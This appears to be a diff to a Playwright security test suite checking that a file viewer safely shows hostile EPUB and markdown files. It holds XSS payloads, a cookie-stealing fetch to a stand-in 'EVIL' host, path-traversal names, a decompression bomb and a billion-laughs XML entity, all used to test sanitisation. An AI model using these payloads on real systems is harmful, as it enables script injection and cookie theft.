@@ -1,6 +1,7 @@
 import { createServer, type Server } from 'node:http'
 import type { AddressInfo } from 'node:net'
-import type { Page } from '@playwright/test'
+import type { Locator, Page } from '@playwright/test'
+import { makeBook } from './books.ts'
 import { row } from './listing.ts'
 import { PNG, WEBM } from './samples.ts'
 import { expect, signIn, test } from './served.ts'
@@ -17,6 +18,7 @@ interface Attacker {
   readonly dialogs: string[]
 }
 
+const XML_SCRIPT = `alert(1);fetch('EVIL/script')`
 const SCRIPT = `alert(1);document.title='ran';try{localStorage.setItem('stolen','1')}catch{};fetch('EVIL/script?'+document.cookie)`
 
 /** What an attacker uploads and then sends a link to (CVE-2021-37794, CVE-2023-39612, GHSA-mmpx-jh39-wrv6). */
@@ -60,6 +62,14 @@ const MUTATIONS = [
   `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
   `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><template><script>alert(1)</script></template>`,
 ]
+
+/** A chapter with all that a page may be armed with; well-formed, so that it is read as it stands. */
+const PAGE_IN_BOOK = `<script>${XML_SCRIPT}</script><script src="EVIL/script.js"/><p onclick="alert(1)" style="background:url(EVIL/style)">styled</p>
+<img src="EVIL/image.png" onerror="alert(1)"/><img src="../../../../evil.png"/><img src="bomb.png"/><img src="x.svg"/><img srcset="EVIL/set 1x"/><img src="/api/resources/"/>
+<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script><image href="EVIL/svg"/><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="EVIL/foreign"/></foreignObject></svg>
+<style>@import "EVIL/import"; body{background:url(EVIL/css)}</style><link rel="stylesheet" href="EVIL/link"/><meta http-equiv="refresh" content="0;url=EVIL/meta"/><base href="EVIL/"/>
+<iframe src="EVIL/frame" srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"/><object data="EVIL/object"/><embed src="EVIL/embed"/><form action="EVIL/form"><input name="body" autofocus="" onfocus="alert(1)"/><button>send</button></form>
+<video src="EVIL/video" poster="EVIL/poster" autoplay=""/><audio src="EVIL/audio"/><a id="body" name="documentElement" ping="EVIL/ping" href="javascript:alert(1)">run</a><a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">data</a><a href="../../../../../../etc/passwd">up</a>`
 
 test.describe('of hostile files', () => {
   test('opened by its own address, no kind of page runs or calls anybody (CVE-2021-37794, CVE-2023-39612)', async ({
@@ -115,7 +125,8 @@ test.describe('of hostile files', () => {
       for (const at of texts.keys()) {
         await page.goto(`${served.url}/files/${at}.md?edit=false`)
         await expect(page.getByRole('heading', { name: `Number ${at}` })).toBeVisible()
-        expect(await leftOver(page)).toEqual({ tags: [], attributes: [], links: [], images: [] })
+        expect(await leftOver(page.locator('[data-part=markdown]'))).toEqual({ tags: [], attributes: [] })
+        expect(await addressesIn(page)).toEqual({ links: [], images: [] })
         for (const link of await page.locator('[data-part=markdown] a').all()) await link.dispatchEvent('click')
       }
       await page.goto(`${served.url}/files/0.md?edit=false`)
@@ -174,6 +185,49 @@ test.describe('of hostile files', () => {
     })
   })
 
+  test('books are words and their own pictures: no script, nothing from elsewhere, no bomb', async ({ page, served, complaints }) => {
+    // What the policy says while a chapter is read in a document without a window.
+    complaints.foresee(/The policy forbade|Content Security Policy|sandboxed/)
+    await withAttacker(page, async (attacker) => {
+      const chapters = [PAGE_IN_BOOK, ...MUTATIONS, `<?xml version="1.0"?><html><body><p>malformed <b>${PAGE_IN_BOOK}`].map(
+        (body) => `${body}<p>the end</p>`,
+      )
+      const pictures = [
+        { name: 'OPS/text/x.svg', text: armed(PAGES['script.svg'] ?? '', attacker) },
+        { name: '../../evil.png', text: 'x' },
+        { name: 'OPS/text/bomb.png', text: Buffer.alloc(30 * 1024 * 1024) },
+      ]
+      await served.write(
+        'a.epub',
+        makeBook(
+          chapters.map((chapter) => armed(chapter, attacker)),
+          { extra: pictures, title: armed('&lt;img src="EVIL/title" onerror="alert(1)"/&gt;', attacker) },
+        ),
+      )
+      await signIn(page, served, '/files/a.epub')
+      for (const at of chapters.keys()) {
+        const book = page.locator('[data-part=book]').frameLocator('iframe')
+        await expect(page.getByText(`Chapter ${at + 1} of ${chapters.length}`)).toBeVisible()
+        await expect(page.locator('[data-part=book] iframe')).toHaveAttribute('data-state', 'shown')
+        if (at === 0) await expect(book.getByText('the end')).toBeAttached()
+        expect(await leftOver(book.locator('body'))).toEqual({ tags: [], attributes: [] })
+        for (const link of await book.locator('a').all()) await link.dispatchEvent('click')
+        if (at < chapters.length - 1) await page.getByRole('button', { name: 'Next chapter' }).click()
+      }
+      await page.waitForLoadState('networkidle')
+      expect(page.context().pages().length).toBeGreaterThan(0)
+      await expectHarmless(page, served.url, attacker)
+      const laughs =
+        '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;"><!ENTITY c SYSTEM "EVIL/entity">]><package><metadata><title>&b;&c;</title></metadata></package>'
+      for (const pack of [laughs, '<package>', '', '<html><script>alert(1)</script></html>']) {
+        await served.write('b.epub', makeBook(['x'], { pack: armed(pack, attacker) }))
+        await page.goto(`${served.url}/files/b.epub`)
+        await expect(page.getByText('There is no preview for this file.')).toBeVisible()
+      }
+      await expectHarmless(page, served.url, attacker)
+    })
+  })
+
   test('an unknown file opened as text is text', async ({ page, served }) => {
     await withAttacker(page, async (attacker) => {
       await served.write('x.bin', Buffer.concat([Buffer.from([0, 1, 2]), Buffer.from(armed(PAGES['page.html'] ?? '', attacker))]))
@@ -226,16 +280,29 @@ function armed(content: string, { origin }: Attacker): string {
   return content.replaceAll('EVIL', origin).replaceAll('HOST', new URL(origin).host)
 }
 
-/** What does not belong in a text: whatever runs, asks, draws by itself, has a name, or leads elsewhere than our own files. */
-async function leftOver(page: Page) {
-  return page.locator('[data-part=markdown]').evaluate((sheet) => {
-    const all = [...sheet.querySelectorAll('*')]
+/** What does not belong in a text: whatever runs, asks, draws by itself, or has a name that is one of the page's. */
+async function leftOver(sheet: Locator) {
+  return sheet.evaluate((root) => {
+    const all = [...root.querySelectorAll('*')]
     const bad = 'script style iframe object embed form input button svg math video audio link base meta template noscript source'.split(' ')
+    const named = (one: Element, name: string) => name === 'id' && one.id.startsWith('spot-')
     return {
       tags: all.map((one) => one.tagName.toLowerCase()).filter((tag) => bad.includes(tag)),
       attributes: all.flatMap((one) =>
-        one.getAttributeNames().filter((name) => name.startsWith('on') || ['style', 'id', 'name', 'srcset', 'poster'].includes(name)),
+        one
+          .getAttributeNames()
+          .filter((name) => name.startsWith('on') || ['style', 'id', 'name', 'srcset', 'poster', 'ping'].includes(name))
+          .filter((name) => !named(one, name)),
       ),
+    }
+  })
+}
+
+/** What leads elsewhere than to our own files. */
+async function addressesIn(page: Page) {
+  return page.locator('[data-part=markdown]').evaluate((sheet) => {
+    const all = [...sheet.querySelectorAll('*')]
+    return {
       links: all.flatMap((one) => one.getAttribute('href') ?? []),
       images: all.flatMap((one) => one.getAttribute('src') ?? []).filter((src) => !src.startsWith('/api/raw/')),
     }
